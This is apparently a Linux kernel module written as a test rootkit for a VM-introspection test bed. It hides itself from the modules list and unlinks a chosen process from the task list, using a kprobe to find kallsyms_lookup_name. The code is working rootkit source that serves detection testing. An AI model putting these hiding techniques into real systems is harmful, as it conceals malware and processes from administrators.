// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_hide: a test rootkit for the nova-vmi guest test bed (tools/testbed/lkm.py).
 *
 * It does, from inside the guest kernel, what real rootkits do to hide, so that the
 * introspection probes are tested against the real thing rather than a host-side
 * imitation.  Nothing happens unless a parameter asks for it:
 *
 *   hide_self=1     take this module off the kernel's "modules" list (lsmod,
 *                   /proc/modules, find_module) -- the classic list_del(&THIS_MODULE->list).
 *                   Its sysfs kobject (/sys/module/<name>) stays, as with most rootkits
 *                   that only unlink themselves.  A self-hidden module cannot be unloaded.
 *   hide_pid=<pid>  take that process off the task list (init_task.tasks), which is what
 *                   for_each_process() walks.  The PID table is left alone, so /proc and
 *                   ps still show it; only task-list walkers miss it.
 *
 * Both unlinks are done the way the kernel would do a deletion, so that the test guest
 * stays healthy: under the lock the kernel's writers of the list take (module_mutex,
 * tasklist_lock; neither is exported, so their addresses come from kallsyms_lookup_name,
 * itself found through a kprobe as rootkits do since Linux 5.7), with list_del_rcu() and
 * a grace period, so that a reader walking the list meanwhile never follows a poisoned
 * pointer.  Afterwards the module's links are poisoned exactly as list_del() leaves them,
 * and the task's links point to itself, so that its eventual exit (release_task's own
 * list_del_rcu) finds a consistent entry (CONFIG_DEBUG_LIST would BUG otherwise).
 *
 * The one window left open: if the hidden task is reaped during the grace period, its
 * release finds a half-unlinked entry.  Tests hide an idle process that nobody kills.
 */
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/poison.h>
#include <linux/rculist.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>

static bool hide_self;
module_param(hide_self, bool, 0444);
MODULE_PARM_DESC(hide_self, "Remove this module from the kernel's modules list");

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "Remove the process with this pid from the task list");

typedef unsigned long (*lookup_name_t)(const char *name);

/* kallsyms_lookup_name() is not exported since 5.7: a kprobe on it reveals its address. */
static unsigned long lookup_name(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_name_t lookup;

	if (register_kprobe(&kp) < 0)
		return 0;
	lookup = (lookup_name_t)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? lookup(name) : 0;
}

static int unlink_task(pid_t nr)
{
	rwlock_t *tasklist = (rwlock_t *)lookup_name("tasklist_lock");
	struct task_struct *task;
	int err = 0;

	if (!tasklist)
		return -ENOSYS;
	rcu_read_lock();
	task = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;

	write_lock_irq(tasklist);
	/* Only thread-group leaders are on the list; an empty entry is hidden already. */
	if (!thread_group_leader(task) || (task->flags & PF_EXITING) ||
	    list_empty(&task->tasks))
		err = -EINVAL;
	else
		list_del_rcu(&task->tasks);
	write_unlock_irq(tasklist);

	if (!err) {
		synchronize_rcu();	/* no for_each_process() walker is on it any more */
		write_lock_irq(tasklist);
		INIT_LIST_HEAD(&task->tasks);
		write_unlock_irq(tasklist);
	}
	put_task_struct(task);
	return err;
}

static int unlink_self(void)
{
	struct mutex *module_mutex = (struct mutex *)lookup_name("module_mutex");

	if (!module_mutex)
		return -ENOSYS;
	mutex_lock(module_mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(module_mutex);
	synchronize_rcu();	/* no RCU walker of the modules list is on it any more */
	THIS_MODULE->list.next = LIST_POISON1;	/* now exactly what list_del() leaves */
	return 0;
}

static int __init vmi_hide_init(void)
{
	int err;

	/* The pid first: it can fail, and a self-hidden module must not fail to load. */
	if (hide_pid > 0) {
		err = unlink_task(hide_pid);
		if (err)
			return err;
	}
	return hide_self ? unlink_self() : 0;
}

static void __exit vmi_hide_exit(void)
{
	/* Reached only when hide_self was not used: a hidden task stays hidden. */
}

module_init(vmi_hide_init);
module_exit(vmi_hide_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nova-vmi test rootkit: hides itself and a process from inside the kernel");
